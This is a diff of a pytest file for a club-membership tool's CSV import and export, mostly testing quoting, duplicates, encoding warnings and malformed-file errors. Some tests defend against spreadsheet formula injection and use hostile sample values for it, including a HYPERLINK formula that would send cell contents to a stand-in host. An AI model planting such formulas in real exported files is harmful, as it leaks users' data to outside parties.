@@ -197,7 +197,7 @@ def test_a_dry_run_shows_the_steps_and_changes_nothing(club: Club) -> None:
 
 
 BAD = ["BAD!,x,Maths,f2026", "TAKEN,Twice Person,Maths,f2026", "ctdalek,Calum Dalek,Maths,f2026", "ok-name,Some Body,Maths,x99",
-       "root,Some Body,Maths,f2026", "nocn,,Maths,f2026", "noprog,Some Body,,f2026", "toolong,Some Body,Maths,f2026,,,,"]
+       "root,Some Body,Maths,f2026", "nocn,,Maths,f2026", "noprog,Some Body,,f2026", "toolong,Some Body,Maths,f2026,,x"]
 
 
 @pytest.fixture
@@ -229,18 +229,69 @@ def test_an_import_of_the_office_goes_on_too(club: Club) -> None:
 
 
 def test_export_is_what_import_takes(club: Club) -> None:
+    """The whole club: whoever is in the file is refused only for being there, and as somebody new taken."""
     uid = club.add(cn='Quoted "Name", Jr.', program="Études, avancées")["result"]["uid"]
-    done = club.run_as("ctdalek", "ceo", "members", "export", "--term", "f2026")
-    rows = list(csv.DictReader(io.StringIO(done.stdout)))
-    mine = next(row for row in rows if row["uid"] == uid)
+    formula = club.add(cn="=1+1+cmd", program="@SUM(1)")["result"]["uid"]
+    rep = club.add(terms=None, non_member_terms=["f2026"])["result"]["uid"]
+    both = club.add(terms=None, non_member_terms=["f2026"])["result"]["uid"]
+    club.run_as("ctdalek", "ceo", "members", "renew", both, "--term", "w2027", "--yes")
+    club_uid, deleted = club.name(), club.add()["result"]["uid"]
+    club.run_as("ctdalek", "ceo", "clubs", "add", club_uid, "--cn", "A Club")
+    club.run_as("ctdalek", "ceo", "members", "delete", deleted, "--yes")
+    done = club.run_as("ctdalek", "ceo", "members", "export")
+    rows = {row["uid"]: row for row in csv.DictReader(io.StringIO(done.stdout))}
+    mine = rows[uid]
     assert (mine["cn"], mine["program"], mine["terms"]) == ('Quoted "Name", Jr.', "Études, avancées", "f2026")
-    again = club.run_as("ctdalek", "ceo", "members", "import", "-", "--dry-run", text=done.stdout)
-    assert again.returncode == 65 and len({line.split(":")[0] for line in again.stderr.splitlines() if line.startswith("line ")}) == len(rows)
+    assert (rows[formula]["cn"], rows[formula]["program"]) == ("'=1+1+cmd", "'@SUM(1)")
+    assert (rows[rep]["terms"], rows[rep]["non_member_terms"]) == ("", "f2026")
+    assert (rows[both]["terms"], rows[both]["non_member_terms"]) == ("w2027", "")
+    assert not {club_uid, deleted} & set(rows)
+    assert "Note: left out, clubs: " in done.stderr
+    assert "Note: left out, deleted: " in done.stderr
+    assert "Note: representatives before they became members: " in done.stderr
+    assert [row["uid"] for row in rows.values() if row["cn"][:1] in "=+-@"] == []
+    again = club.run_as("ctdalek", "ceo", "members", "import", "-", "--dry-run", "--json", text=done.stdout)
+    bad = json.loads(again.stdout)["bad"]
+    assert {row["uid"] for row in bad} == set(rows)
+    assert [row for row in bad if len(row["problems"]) != 1 or "there is an account" not in row["problems"][0]] == []
+    # As people whom nobody knows.
+    header, *lines = done.stdout.splitlines()
+    new = "\n".join([header, *(f"{club.name()},{line.split(',', 1)[1]}" for line in lines)])
+    taken = club.run_as("ctdalek", "ceo", "members", "import", "-", "--dry-run", text=new)
+    assert (taken.returncode, taken.stdout) == (0, f"{len(rows)} rows can be added, 0 can't; nothing was changed.\n")
+    assert "like a formula" in taken.stderr
+
+
+def test_formulas_do_not_begin_a_cell_of_a_listing(club: Club) -> None:
+    uid = club.add(cn="=HYPERLINK(1)", program="+1-519")["result"]["uid"]
+    for words in (("members", "list"), ("members", "search", uid)):
+        done = club.run_as("ctdalek", "ceo", *words, "--csv", "--columns", "uid,cn,program")
+        rows = {row["uid"]: row for row in csv.DictReader(io.StringIO(done.stdout))}
+        assert (rows[uid]["cn"], rows[uid]["program"]) == ("'=HYPERLINK(1)", "'+1-519"), words
+    raw = json.loads(club.run_as("ctdalek", "ceo", "members", "get", uid, "--json").stdout)
+    assert raw["cn"] == "=HYPERLINK(1)"
+
+
+def test_what_looks_wrong_is_said_before_anybody_is_added(club: Club) -> None:
+    uids = [club.name() for _ in range(3)]
+    text = f'uid,cn,program\n{uids[0]},JosÃ© NÃºÃ±ez,CS\n{uids[1]},"Doe, Jane",CS\n{uids[2]},Ann Formula,"=HYPERLINK(""http://x.example/?""&A2)"\n'
+    done = club.run_as("ctdalek", "ceo", "members", "import", "-", text=text)
+    assert done.returncode == 2  # nobody is there to be asked
+    for line, words in ((2, 'as if it was "José Núñez"'), (3, "has a comma"), (4, "like a formula")):
+        assert [said for said in done.stderr.splitlines() if said.startswith(f"Note: line {line}: ") and words in said], done.stderr
+    assert [entry["line"] for entry in json.loads(
+        club.run_as("ctdalek", "ceo", "members", "import", "-", "--dry-run", "--json", text=text).stdout)["warnings"]] == [2, 3, 4]
+    assert not [uid for uid in uids if club.entries(f"(uid={uid})")]
 
 
 def test_files_that_are_no_import(club: Club) -> None:
-    for text, says in (("a,b\n1,2\n", "has a column 'a'"), ("uid,cn\nx,y\n", "no column program"), ("uid,cn,program\n", "has no rows"), ("", "no column uid")):
+    for text, says in (("a,b\n1,2\n", "has a column 'a'"), ("uid,cn\nx,y\n", "no column program"), ("uid,cn,program\n", "has column names and no rows"),
+                       ("", "the file is empty"), ("uid,cn,program,cn\na,b,c,d\n", "has the column cn twice"),
+                       ('uid,cn,program\na1a,Bob Bobson,CS\nb1b,"Bob"x,CS\n', "line 3 is not CSV")):
         done = club.run_as("ctdalek", "ceo", "members", "import", "-", "--yes", text=text)
+        assert done.returncode == 65 and says in done.stderr and "Traceback" not in done.stderr, (text, done)
+    for text, says in (("title,authors,title\na,b,c\n", "has the column title twice"), ("title;authors\na;\"b\"x\n", "line 2 is not CSV"), ("", "the file is empty")):
+        done = club.run_as("ctdalek", "ceo", "library", "import", "-", "--yes", text=text)
         assert done.returncode == 65 and says in done.stderr and "Traceback" not in done.stderr, (text, done)
 
 
